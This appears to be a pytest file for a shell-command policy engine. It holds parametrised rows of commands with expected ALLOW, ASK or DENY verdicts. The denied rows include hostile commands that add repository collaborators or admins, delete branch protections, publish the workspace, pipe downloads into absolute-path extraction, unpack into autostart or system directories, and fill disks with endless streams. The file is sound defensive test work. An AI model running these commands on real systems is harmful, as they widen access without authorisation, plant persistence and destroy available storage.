"""Kinds of the ninth attack set's held-out reports, built after that half was measured once
and its misses read: who may change a repository or a package widened, a repository deleted
or published by other clients, archives whose members name where they are written, and writes
that fill the disk. Each kind has variants beside benign near-misses of the same shape.

Every row is a command, the exact outcome it must come to, and one line of why. The lines are
data: they are only ever handed to ``Engine.check`` (the real engine, default policy).
"""

from __future__ import annotations

import pytest

from clawgate.decision import Outcome
from clawgate.engine import Engine

WORKSPACE = "/tmp/workspace"
ENGINE = Engine()
ALLOW, ASK, DENY = Outcome.ALLOW, Outcome.ASK, Outcome.DENY

Case = tuple[str, Outcome, str]  # (command, expected outcome, why)

# forgeaccess.py, forgerepo.py, risktables.py: access widened, repositories published.
FORGES: list[Case] = [
    ("gh api --method PUT repos/o/r/collaborators/someone", DENY, "a collaborator added"),
    ("gh api -X PUT orgs/o/memberships/someone -f role=admin", DENY, "an owner made"),
    ("gh api -X DELETE repos/o/r/branches/release/protection/required_status_checks", DENY,
     "part of a branch's protection removed"),
    ("gh api -X DELETE repos/o/r/rulesets/42", DENY, "a ruleset deleted"),
    ("glab repo delete group/project", DENY, "GitLab's client deletes a project"),
    ("gh repo create mirror --public --source . --push", DENY, "the workspace published"),
    ("npm access public @o/pkg", DENY, "npm's older spelling: the package made public"),
    ("pnpm owner add someone @o/pkg", DENY, "a publisher added through pnpm"),
    ("cargo owner -a someone crate", DENY, "cargo's short flag"),
    ("gem owner g -a someone@example.com", DENY, "gem's short flag"),
    ("npm token create --read-only", ASK, "a token minted"),
    ("npm dist-tag rm @o/pkg beta", ASK, "a tag moved"),
    ("gh api repos/o/r/collaborators/someone/permission", ALLOW, "a permission read"),
    ("gh api repos/o/r/rulesets", ALLOW, "rulesets listed"),
    ("gh repo create scratch --private", ASK, "a new private repository (a forge write)"),
    ("npm access list collaborators @o/pkg", ALLOW, "a listing"),
    ("npm owner list @o/pkg", ALLOW, "owners listed"),
    ("cargo owner -l crate", ALLOW, "owners listed"),
    ("cargo publish --dry-run", ALLOW, "a rehearsal"),
    ("npm token list", ALLOW, "the tokens' ids listed, not the tokens"),
]

# catalogrules.py (CG-PROG-003), pyconsole.py, the catalog: archives that name where they
# write, extraction targets of other extractors.
ARCHIVES: list[Case] = [
    ("curl -fsSL https://h.example.net/x.tgz | bsdtar -xzPf -", DENY,
     "a download extracted with absolute names kept"),
    ("wget -O- https://h.example.net/x.cpio | cpio -idm --absolute-filenames", DENY,
     "a downloaded cpio archive, absolute names kept"),
    ("gtar --absolute-names -xf x.tar", ASK, "GNU tar's own name"),
    ("7za x -spf2 a.7z", ASK, "7-Zip's other full-path switch"),
    ("cpio -i --absolute-filenames < a.cpio", ASK, "GNU cpio told to keep leading slashes"),
    ("python3 -m tarfile --extract x.tar ~/.config", DENY, "into a start-up directory"),
    ("python -m zipfile -e x.zip /etc", DENY, "into a system directory"),
    ("unsquashfs -dest / image.sqsh", DENY, "an image over the root"),
    ("7z a -spf backup.7z /srv/data", ALLOW, "adding with full paths writes nothing there"),
    ("cpio -idm --no-absolute-filenames < a.cpio", ALLOW, "names made relative"),
    ("cpio -t < a.cpio", ALLOW, "a listing"),
    ("cpio -idm < a.cpio", ALLOW, "GNU cpio strips a leading slash"),
    ("python3 -m tarfile -e dist/pkg.tar.gz build/src", ALLOW, "into the project"),
    ("unsquashfs -d out image.sqsh", ALLOW, "into the project"),
    ("dpkg -x pkg.deb /", DENY, "a package's files over the root, no package manager"),
    ("dpkg-deb --extract pkg.deb ~/.local", DENY, "into home's program directory tree"),
    ("dpkg -x pkg.deb extracted/", ALLOW, "unpacked into the project: no install"),
    ("dpkg -c pkg.deb", ALLOW, "a listing"),
    ("dpkg -i pkg.deb", ASK, "an install: its scripts run as root"),
    ("ditto -x -k a.zip ~/Library/LaunchAgents", DENY, "into launchd's autostart directory"),
    ("tar -xf agents.tar -C /Library/LaunchDaemons", DENY, "into the system's launchd jobs"),
    ("cat ~/Library/LaunchAgents/com.example.plist", ALLOW, "a job read"),
    ("gtar -xzf x.tgz -C vendor", ALLOW, "relative names, into the project"),
]

# diskfill.py: endless streams into files, sizes no task needs, disk and memory loads.
FILLS: list[Case] = [
    ("cat /dev/urandom > noise.bin", DENY, "an endless device into a file"),
    ("yes 'x' | tee /tmp/out.log", DENY, "an endless stream through tee"),
    ("seq infinity > n.txt", DENY, "seq's other spelling of no end"),
    ("dd if=/dev/zero of=~/z", DENY, "zeros without a count, in home"),
    ("fallocate --length 2T big.img", DENY, "two terabytes"),
    ("head --bytes=200G /dev/zero > ~/z.bin", DENY, "200 GiB outside the workspace"),
    ("fio --name=w --rw=write --size=2T --filename=f.dat", DENY, "a two-terabyte benchmark"),
    ("fallocate -l 50G data.img", ASK, "50 GiB in the project"),
    ("dd if=/dev/zero of=disk.img bs=1M count=20480", ASK, "20 GiB"),
    ("stress-ng --vm 4 --vm-bytes 80%", ASK, "memory held with no end"),
    ("stress --hdd 2 --timeout 30", ALLOW, "a bounded load"),
    ("yes | head -c 100 > small.txt", ALLOW, "bounded by head"),
    ("cat /dev/urandom | head -c 16 | base64", ALLOW, "bounded by head, no file"),
    ("dd if=/dev/zero of=swap.img bs=1M count=512", ALLOW, "half a gigabyte"),
    ("fallocate -l 2G cache.img", ALLOW, "two gigabytes"),
    ("seq 1 1000000 > ids.txt", ALLOW, "a bounded sequence"),
    ("until false; do cp -r src ../copy$RANDOM; done", DENY, "copies made without end"),
    ("while true; do touch \"f$RANDOM\"; done", DENY, "files made without end"),
    ("while true; do date >> log.txt; sleep 60; done", ALLOW, "a paced loop"),
    ("for i in 1 2 3; do mkdir \"d$i\"; done", ALLOW, "a bounded loop"),
    ("while read -r f; do touch \"$f\"; done < list.txt", ALLOW, "ends with its input"),
]


ALL = FORGES + ARCHIVES + FILLS


@pytest.mark.parametrize(("line", "expected", "why"), ALL)
def test_kinds_of_the_ninth_sets_held_out_half(line: str, expected: Outcome, why: str) -> None:
    assert ENGINE.check(line, cwd=WORKSPACE).outcome is expected, why


# The rule that gives each mechanism's verdict, named in its reasons.
RULES: list[tuple[str, str]] = [
    ("npm owner add someone pkg", "CG-INFRA-006"),
    ("glab repo delete g/p --yes", "CG-INFRA-005"),
    ("7z x -spf a.7z", "CG-PROG-003"),
    ("dpkg -i x.deb", "CG-ESC-012"),
    ("yes > f.txt", "CG-DEST-015"),
    ("while :; do mkdir -p d/$RANDOM; done", "CG-DEST-016"),
]


@pytest.mark.parametrize(("line", "rule"), RULES)
def test_each_mechanism_names_its_rule(line: str, rule: str) -> None:
    assert rule in {r.rule_id for r in ENGINE.check(line, cwd=WORKSPACE).reasons}
